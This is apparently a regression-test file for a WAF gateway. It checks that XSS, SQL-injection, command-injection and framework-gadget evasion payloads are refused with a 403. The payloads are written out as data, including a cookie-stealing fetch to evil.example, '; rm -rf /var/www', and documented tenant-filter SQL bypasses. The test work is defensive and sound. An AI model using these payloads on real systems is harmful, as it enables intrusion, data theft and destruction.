// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads hold literal ${…}
/**
 * Audit 15 (round 8 of the WAF evasion audit): the fixes of audit 14 (commit dffa88b: apostrophes next to SQL
 * words in quotesInert, phraseInert in searchExpressionOnly, PATH_GLOB's letter per segment, SCOPE_GLOB's column
 * denylist, SEPARATED_REFUSED in commandOnlyAtStart) and areas no audit had covered closely: the rich-text
 * sanitizer check (sanitizedHtml, bareTagsInert in src/waf/profile/html.ts: raw-text elements, conditional
 * comments, entities, code samples, Confluence storage elements, embeds), the code cut out as markdown fences,
 * GraphQL literal and comment extraction (expand.ts) and inline images (inlineImageSummary). Against the `waf`
 * policy (CRS v4.28.0 from ../shared, PL1, blocking) through the real gateway in front of a recording upstream,
 * over HTTP/1.1 and HTTP/2. Every technique here is one the gateway stops: 403, and the upstream never sees it.
 * The techniques that got through are in the audit's report, not here. `/crs/*` (PL1) and `/crs2/*` (PL2) run
 * the plain CRS profile: the control there shows CRS refuses the payloads behind these evasions.
 */

import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync } from 'node:fs';
import http2 from 'node:http2';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { builtinPolicies } from '../../src/policies/index.ts';
import { policy as waf } from '../../src/policies/waf/policy.ts';
import {
  rawRequest,
  startGateway,
  startUpstream,
  statuses,
  type TestGateway,
  type TestUpstream,
} from '../helpers/gateway.ts';

const CRS = '/work/shared/crs/v4.28.0';
const RULES = `{ setup: "${join(CRS, 'crs-setup.conf.example')}", include: ["${join(CRS, 'rules')}"] }`;

const J = (v: unknown): string => JSON.stringify(v);
const E = encodeURIComponent;

/** A raw HTTP/1.1 request (Host, a browser User-Agent, Accept, Content-Length for a body, close). */
function req(method: string, target: string, headers: [string, string][], body = ''): Buffer {
  const b = Buffer.from(body, 'utf8');
  const lines = [
    `${method} ${target} HTTP/1.1`,
    'Host: api.example.com',
    'User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0',
    'Accept: application/json',
    ...headers.map(([k, v]) => `${k}: ${v}`),
  ];
  if (b.length > 0) lines.push(`Content-Length: ${b.length}`);
  lines.push('Connection: close');
  return Buffer.concat([Buffer.from(`${lines.join('\r\n')}\r\n\r\n`, 'latin1'), b]);
}

const JSON_CT: [string, string][] = [['Content-Type', 'application/json']];
/** A JSON document posted to `path` (the API-profile route by default). */
const doc = (value: unknown, path = '/x'): Buffer => req('POST', path, JSON_CT, J(value));
/** A JSON body `{ [field]: value }` posted to the API-profile route. */
const json = (field: string, value: string): Buffer => doc({ [field]: value });
const get = (target: string): Buffer => req('GET', target, []);

interface Case {
  readonly name: string;
  readonly build: () => Buffer;
}

const INTRO = '<p>Please review the new banner before Friday</p>';

/** Evasions the gateway refuses (API profile, route `/*`). */
const CASES: readonly Case[] = [
  // sanitizedHtml: an iframe's content is raw text to a browser (it ends at `</iframe>`), markup to the checker.
  {
    name: 'html: </iframe> in an attribute value inside an embed',
    build: () =>
      json(
        'body',
        '<p>Watch:</p><iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" width="560" height="315"><span title="</iframe><script>alert(document.domain)</script>"></span></iframe>',
      ),
  },
  {
    name: 'html: </iframe><img src=x> in an attribute value inside an embed',
    build: () =>
      json(
        'content',
        '<p>Watch:</p><iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ"><span title="</iframe><img src=x>"></span></iframe>',
      ),
  },
  {
    name: 'html: external script after </iframe> in an attribute value',
    build: () =>
      json(
        'body',
        '<p>Watch:</p><iframe src="https://www.youtube.com/embed/x"><b title="</iframe><script src=https://evil.example/x.js></script>">a</b></iframe>',
      ),
  },
  {
    name: 'html: conditional comment inside an embed closes the iframe',
    build: () =>
      json(
        'body',
        '<iframe src="https://www.youtube.com/embed/x"><!--[if mso]></iframe><script>alert(1)</script><![endif]--></iframe>',
      ),
  },
  {
    name: 'html: Datastar data-init with fetch and document.cookie',
    build: () =>
      json(
        'body',
        `${INTRO}<div data-init="fetch('https://evil.example/'+document.cookie)">Hello team</div>`,
      ),
  },
  {
    name: 'html: data-text with eval(atob(…))',
    build: () => json('body', `${INTRO}<div data-text="eval(atob('YWxlcnQoMSk='))">Hello team</div>`),
  },
  {
    name: 'html: javascript&colon; in an href',
    build: () =>
      json('body', '<p>Please see <a href="javascript&colon;alert(1)">this link</a> for details</p>'),
  },
  {
    name: 'html: encoded markup without semicolons (&ltscript&gt)',
    build: () =>
      json('body', '<p>Please see &ltscript&gtalert(document.domain)&lt/script&gt for the details</p>'),
  },
  {
    name: 'html: encoded script in an img alt',
    build: () =>
      json(
        'body',
        '<p>Hello team, see the chart</p><img src="https://cdn.example/a.png" alt="&lt;script&gt;alert(1)&lt;/script&gt;">',
      ),
  },
  {
    name: 'html: Confluence html macro with an encoded script body',
    build: () =>
      json(
        'body',
        '<p>Hello team see the <ac:structured-macro ac:name="html"><ac:plain-text-body>&lt;script&gt;alert(1)&lt;/script&gt;</ac:plain-text-body></ac:structured-macro></p>',
      ),
  },
  {
    name: 'html: video poster javascript:',
    build: () =>
      json(
        'body',
        '<p>Hello team see the clip</p><video src="https://cdn.example/a.mp4" poster="javascript:alert(1)"></video>',
      ),
  },
  {
    name: 'html: position:fixed overlay link',
    build: () =>
      json(
        'body',
        '<p>Hello team please read</p><a href="https://example.com" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>',
      ),
  },
  {
    name: 'html: embed host open redirect to javascript:',
    build: () =>
      json(
        'body',
        '<p>Hello team, see</p><iframe src="https://www.google.com/url?q=javascript:alert(1)"></iframe>',
      ),
  },
  {
    name: 'html: srcdoc on an allowed embed',
    build: () =>
      json(
        'body',
        '<p>Hello team, see the map below</p><iframe src="https://www.google.com/maps" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
      ),
  },
  {
    name: 'html: @import in a style element',
    build: () => json('body', "<p>Hello team</p><style>@import 'https://evil.example/x.css';</style>"),
  },
  // bareTagsInert: a bare tag named in prose, then code.
  {
    name: 'bare tags: <script> tags with alert(1)',
    build: () =>
      json('body', '<p>Hello team, why do <script> tags with alert(1) still run in innerHTML?</p>'),
  },
  {
    name: 'bare tags: <script>alert`1`</script> in a sentence',
    build: () =>
      json(
        'body',
        'Then <img src onerror> and <script>alert`1`</script> tags in innerHTML do not run at all',
      ),
  },
  // Markdown fences: only a fence CommonMark renders as code, in a field named for markdown, is cut out.
  {
    name: 'fences: info string with a backtick (no fence to CommonMark)',
    build: () => json('body', '```html`\n<script>alert(document.domain)</script>\n```'),
  },
  {
    name: 'fences: four-backtick fence closed by three',
    build: () =>
      json('body', 'Steps to reproduce:\n````\n<script>alert(document.domain)</script>\n```\nthanks'),
  },
  {
    name: 'fences: fence indented four spaces',
    build: () => json('body', 'Steps to reproduce:\n    ```\n<script>alert(document.domain)</script>\n```'),
  },
  {
    name: 'fences: an empty fence, then the script outside',
    build: () => json('body', 'Steps to reproduce:\n```\n```\n<script>alert(document.domain)</script>\n```'),
  },
  {
    name: 'fences: a fence in a field not named for markdown',
    build: () => json('name', '```html\n<script>alert(document.domain)</script>\n```'),
  },
  {
    name: 'code span: a script in backticks in prose',
    build: () => json('body', 'Hi team `<script>alert(document.domain)</script>` breaks the page'),
  },
  // Inline images: active content after a raster signature.
  {
    name: 'inline image: GIF header then <script>',
    build: () => json('avatar', 'data:image/gif;base64,R0lGODlhPHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='),
  },
  {
    name: 'inline image: PNG header then <?php system(…)',
    build: () => json('avatar', 'data:image/png;base64,iVBORw0KGgo8P3BocCBzeXN0ZW0oJF9HRVRbY10pOyA/Pg=='),
  },
  // GraphQL: literals and comments are inspected.
  {
    name: "graphql: x' OR '1'='1 in a string literal",
    build: () => json('query', "query { user(name: \"x' OR '1'='1\") { id } }"),
  },
  {
    name: 'graphql: UNION SELECT in a comment',
    build: () => json('query', "{ a } # ' UNION SELECT password FROM users --"),
  },
  {
    name: "graphql: ' OR 1=1-- in a block string",
    build: () => json('query', '{ search(q: """\n\' OR 1=1-- \n""") { id } }'),
  },
  // Audit 14's fixes: other SQL words next to an apostrophe, other command spellings after a separator.
  { name: "apostrophe: a'regexp'^a", build: () => json('name', "Please find the user a'regexp'^a") },
  { name: "apostrophe: a'div'0", build: () => json('name', "Please find the user a'div'0") },
  {
    name: "apostrophe: a'sounds like'admin",
    build: () => json('name', "Please find the user a'sounds like'admin"),
  },
  { name: "apostrophe: a'xor'1", build: () => json('name', "Please find the user a'xor'1") },
  { name: 'search phrase: " RLIKE " x', build: () => json('q', '" RLIKE " x') },
  {
    name: 'separated command: ; rm -rf /var/www',
    build: () => json('host', 'Hello team the invoice is late; rm -rf /var/www'),
  },
  {
    name: 'separated command: ; /bin/rm database',
    build: () => json('host', 'Hello team the invoice is late; /bin/rm database'),
  },
  {
    name: 'separated command: ; \\rm database',
    build: () => json('host', 'Hello team the invoice is late; \\rm database'),
  },
  {
    name: 'separated command: ; r"m" database',
    build: () => json('host', 'Hello team the invoice is late; r"m" database'),
  },
  {
    name: 'separated command: ; find . -delete',
    build: () => json('host', 'Hello team the invoice is late; find . -delete'),
  },
  // htmlCode: a `>` in a quoted attribute value of `<pre>`; markup after it still meets the rules.
  {
    name: 'html code sample: <pre title="x>"> then an img with a handler',
    build: () =>
      json(
        'body',
        '<p>Hello team, the fix:</p><pre title="x>"><img src=x onerror=alert(document.domain)> a="</pre>',
      ),
  },
  {
    name: 'html code sample: <pre title="x>"> then a script element',
    build: () =>
      json(
        'body',
        '<p>Hello team, the fix:</p><pre title="x>"><script>alert(document.domain)</script>"</pre>',
      ),
  },
  // Globs: a one-segment glob that starts with an underscore, and one in a query parameter.
  { name: 'scope glob: {"ref":"_rowid/*"}', build: () => json('ref', '_rowid/*') },
  { name: 'scope glob over GET: ?branch=rowid/*', build: () => get(`/api/x?branch=${E('rowid/*')}`) },
  {
    name: 'graphql over GET: a script in a string literal',
    build: () => get(`/graphql?query=${E('{ a(x: "<script>alert(1)</script>") }')}`),
  },
];
/** One HTTP/2 request; resolves with the status (or `stream-error`/`session-error`). */
function h2(port: number, headers: http2.OutgoingHttpHeaders, body?: string): Promise<string> {
  return new Promise((resolve) => {
    const session = http2.connect(`https://127.0.0.1:${port}`, { rejectUnauthorized: false });
    session.on('error', () => resolve('session-error'));
    const r = session.request({
      'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0',
      accept: 'application/json',
      ...headers,
    });
    r.on('response', (h) => {
      r.resume();
      r.on('end', () => {
        session.close();
        resolve(String(h[':status']));
      });
    });
    r.on('error', () => {
      session.close();
      resolve('stream-error');
    });
    r.end(body);
  });
}

const H2_POST = { ':method': 'POST', ':path': '/x', 'content-type': 'application/json' };

/** The same evasions over HTTP/2 (the value view is the same; the framing is not). */
/**
 * The bypasses and framework gadgets audit 15 found, fixed the same session: each is refused now.
 */
const BYPASS_CASES: readonly Case[] = [
  // B1 (stored XSS, zero-click; htmlCode in src/waf/profile/code.ts): HTML_CODE's attribute part `[^<>]*` stops
  // at the `>` inside the quoted title, so the rest of the start tag (handlers included) up to `</pre>` is cut
  // out as a "code sample" and the prose `<p>…</p><pre title="x></pre>` is judged instead. Chromium 156 parses
  // title="x>y" and runs onfocus (autofocus + tabindex) on load; the oncontentvisibilityautostatechange variant
  // needs no focus.
  {
    name: 'B1 html code sample: <pre title="x>y" … autofocus onfocus=…>',
    build: () =>
      json(
        'body',
        '<p>Hello team, the fix:</p><pre title="x>y" tabindex=1 autofocus onfocus=alert(document.domain) x="z">npm ci</pre>',
      ),
  },
  {
    name: 'B1b html code sample: <pre … oncontentvisibilityautostatechange=…>',
    build: () =>
      json(
        'body',
        '<p>Hello team, the fix:</p><pre title="x>y" style="content-visibility:auto" oncontentvisibilityautostatechange=alert(document.domain) x="z">npm ci</pre>',
      ),
  },
  {
    name: 'B1c html code sample: <code class="x>y" … onfocus=…>',
    build: () =>
      json(
        'body',
        '<p>Hello team, the fix:</p><code class="x>y" tabindex=1 autofocus onfocus=alert(document.domain) x="z">npm ci</code>',
      ),
  },
  // B2 (stored XSS; markdownFences in code.ts): a fence inside a CommonMark HTML block (a line starting `<div>`,
  // `<details>`: type 6, open until a blank line) is raw HTML, not code. markdown-it (commonmark preset) renders
  // it verbatim; Chromium runs the handler (and the script when server-rendered).
  {
    name: 'B2 markdown: fence inside a <details> HTML block (img onerror)',
    build: () =>
      json('description', '<details>\n```\n<img src=x onerror=alert(document.domain)>\n```\n</details>'),
  },
  {
    name: 'B2b markdown: fence inside a <div> HTML block (script)',
    build: () => json('body', '<div>\n```html\n<script>alert(document.domain)</script>\n```\n</div>'),
  },
  // B3 (SQLi, tenant filter bypass; PATH_GLOB in view.ts): every segment holds a letter, but `id/id*id` is still
  // arithmetic: `WHERE id = id/id*id/* AND tenant_id = 1` is `id = id` and the unterminated comment cuts off the
  // tenant filter (SQLite via node:sqlite, MariaDB 10/11: every tenant's rows).
  { name: 'B3 path glob: {"name":"id/id*id/*"}', build: () => json('name', 'id/id*id/*') },
  { name: 'B3b path glob: {"path_pattern":"id/id*id/*"}', build: () => json('path_pattern', 'id/id*id/*') },
  { name: 'B3c path glob over GET: ?path=id/id*id/**', build: () => get(`/api/x?path=${E('id/id*id/**')}`) },
  // B4 (SQLi, SQLite; SCOPE_GLOB in expand.ts): the column denylist misses `rowid` (= an INTEGER PRIMARY KEY):
  // `WHERE id = rowid/* AND tenant_id = 1` returns every tenant's rows.
  { name: 'B4 scope glob: {"scope":"rowid/*"}', build: () => json('scope', 'rowid/*') },
];

const BYPASS_H2_CASES: readonly { name: string; headers: http2.OutgoingHttpHeaders; body?: string }[] = [
  {
    name: 'B1 over h2',
    headers: H2_POST,
    body: J({
      body: '<p>Hello team, the fix:</p><pre title="x>y" tabindex=1 autofocus onfocus=alert(document.domain) x="z">npm ci</pre>',
    }),
  },
  {
    name: 'B2 over h2',
    headers: H2_POST,
    body: J({ description: '<details>\n```\n<img src=x onerror=alert(document.domain)>\n```\n</details>' }),
  },
  { name: 'B3 over h2', headers: { ':method': 'GET', ':path': '/api/x?path=id%2Fid*id%2F**' } },
  { name: 'B4 over h2', headers: H2_POST, body: J({ scope: 'rowid/*' }) },
];

// Not browser-confirmed here (the libraries are not installed offline): front-end framework gadgets that
// sanitizedHtml lets through (DATA_ATTR's denylist, `class` unchecked). Each is 200 on the API profile and 403 on
// /crs/* (Intercooler: /crs2/*). Real only on pages that load the library.
const GADGET_CASES: readonly Case[] = [
  // Datastar (data-effect runs its expression as JavaScript on load).
  {
    name: 'G1 Datastar data-effect',
    build: () =>
      json(
        'body',
        '<p>Please review the new banner before Friday</p><div data-effect="alert(document.domain)">Hello team</div>',
      ),
  },
  // AngularJS 1.x: ngInit is restricted 'AC', so a class directive `ng-init: <expr>` is compiled (1.6+: no sandbox).
  {
    name: 'G2 AngularJS class ng-init',
    build: () =>
      json(
        'body',
        '<p>Please review the new banner before Friday</p><div class="ng-init:constructor.constructor(\'alert(document.domain)\')()">Hello team</div>',
      ),
  },
  // Intercooler.js: data-ic-on-success is evaluated (the handler regex needs a letter right after `on`).
  {
    name: 'G3 Intercooler data-ic-on-success',
    build: () =>
      json(
        'body',
        '<p>Please review the new banner before Friday</p><div data-ic-on-success="alert(document.domain)">Hello team</div>',
      ),
  },
];

const H2_CASES: readonly { name: string; headers: http2.OutgoingHttpHeaders; body?: string }[] = [
  {
    name: 'html: </iframe> in an attribute value inside an embed',
    headers: H2_POST,
    body: J({
      body: '<iframe src="https://www.youtube.com/embed/x"><b title="</iframe><script>alert(1)</script>">a</b></iframe>',
    }),
  },
  {
    name: 'graphql: UNION SELECT in a comment',
    headers: H2_POST,
    body: J({ query: "{ a } # ' UNION SELECT password FROM users --" }),
  },
  {
    name: "apostrophe: a'regexp'^a",
    headers: H2_POST,
    body: J({ name: "Please find the user a'regexp'^a" }),
  },
];

// The payloads behind this audit's evasions, sent to the plain CRS profile (PL1 `/crs/*`, PL2 `/crs2/*`).
const CRS_REFUSES: readonly [path: string, value: unknown][] = [
  ['/crs/x', { body: `${INTRO}<div data-effect="alert(document.domain)">Hello team</div>` }],
  [
    '/crs/x',
    { body: `${INTRO}<div class="ng-init:constructor.constructor('alert(document.domain)')()">Hi</div>` },
  ],
  ['/crs/x', { name: 'id/id*id/*' }],
  ['/crs/x', { path_pattern: 'id/id*id/*' }],
  ['/crs/x', { scope: 'rowid/*' }],
  [
    '/crs/x',
    {
      body: '<p>Hello team, the fix:</p><pre title="x>y" tabindex=1 autofocus onfocus=alert(document.domain) x="z">npm ci</pre>',
    },
  ],
  ['/crs2/x', { description: '<details>\n```\n<img src=x onerror=alert(document.domain)>\n```\n</details>' }],
  ['/crs/x', { description: '<div>\n```html\n<script>alert(document.domain)</script>\n```\n</div>' }],
  ['/crs/x', { scope: 'api_key/*' }],
  ['/crs2/x', { body: `${INTRO}<div data-ic-on-success="alert(document.domain)">Hello team</div>` }],
];
describe(
  'audit15: WAF evasions of the audit-14 fixes, the rich-text check, fences, GraphQL and inline images the gateway stops',
  { timeout: 60_000 },
  () => {
    let up: TestUpstream;
    let gw: TestGateway;

    before(async () => {
      const dir = mkdtempSync(join(tmpdir(), 'gatehouse-audit15-'));
      execFileSync(
        'openssl',
        [
          'req',
          '-x509',
          '-newkey',
          'ec',
          '-pkeyopt',
          'ec_paramgen_curve:prime256v1',
          '-nodes',
          '-keyout',
          'k.pem',
          '-out',
          'c.pem',
          '-days',
          '1',
          '-subj',
          '/CN=localhost',
        ],
        { cwd: dir, stdio: 'ignore', timeout: 20_000 },
      );
      up = await startUpstream();
      gw = await startGateway(
        `gatehouse: 1
workers: 1
admin: { enabled: false }
logging: { level: warn, access_log: false }
listeners:
  - { name: main, host: 127.0.0.1, port: 0 }
  - name: h2
    host: 127.0.0.1
    port: 0
    tls:
      http2: true
      certificates:
        - { cert: "${join(dir, 'c.pem')}", key: "${join(dir, 'k.pem')}" }
upstreams: [{ name: backend, targets: [{ url: "${up.url}" }] }]
routes:
  - name: crs
    paths: ["/crs/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES}, profile: crs }
  - name: crs2
    paths: ["/crs2/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES}, profile: crs, paranoia_level: 2 }
  - name: api
    paths: ["/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES} }
`,
        {},
        { policies: [...builtinPolicies, waf] },
      );
    });

    after(async () => {
      await gw?.close();
      await up?.close();
    });

    /** Sends raw bytes; returns every status the gateway answered and the requests the upstream received. */
    async function send(payload: Buffer) {
      const n = up.requests.length;
      const out = await rawRequest(gw.port, payload, 3000);
      return { statuses: statuses(out), out, reached: up.requests.slice(n) };
    }

    test('control: the benign shapes of these relaxations reach the upstream', async () => {
      for (const payload of [
        json('body', '<p>Hi <b>there</b> and <a href="https://example.com">docs</a></p>'),
        json('body', '<p>Watch:</p><iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>'),
        json('description', '```html\n<p>hello</p>\n```'),
        json('path_pattern', 'staging/*'),
      ]) {
        const r = await send(payload);
        assert.deepEqual(r.statuses, [200], r.out);
        assert.equal(r.reached.length, 1);
      }
    });

    test('control: plain CRS (PL1 /crs/*, PL2 /crs2/*) refuses the payloads behind these evasions', async () => {
      for (const [path, value] of CRS_REFUSES) {
        const r = await send(doc(value, path));
        assert.equal(r.statuses.at(-1), 403, `${path} ${J(value)}`);
        assert.equal(r.reached.length, 0, `${path} ${J(value)}`);
      }
    });

    for (const c of [...CASES, ...BYPASS_CASES, ...GADGET_CASES]) {
      test(`refused: ${c.name}`, async () => {
        const r = await send(c.build());
        assert.equal(r.statuses.at(-1), 403, r.out.slice(0, 400));
        assert.deepEqual(
          r.reached.map((q) => `${q.method} ${q.url}`),
          [],
          'the upstream saw the request',
        );
      });
    }

    test('control over h2: a benign POST reaches the upstream', async () => {
      const n = up.requests.length;
      assert.equal(
        await h2(gw.ports.h2 as number, H2_POST, J({ name: "Please find O'Connor's order from last week" })),
        '200',
      );
      assert.equal(up.requests.length, n + 1);
    });

    for (const c of [...H2_CASES, ...BYPASS_H2_CASES]) {
      test(`refused over h2: ${c.name}`, async () => {
        const n = up.requests.length;
        assert.equal(await h2(gw.ports.h2 as number, c.headers, c.body), '403');
        assert.equal(up.requests.length, n, 'the upstream saw the request');
      });
    }
  },
);
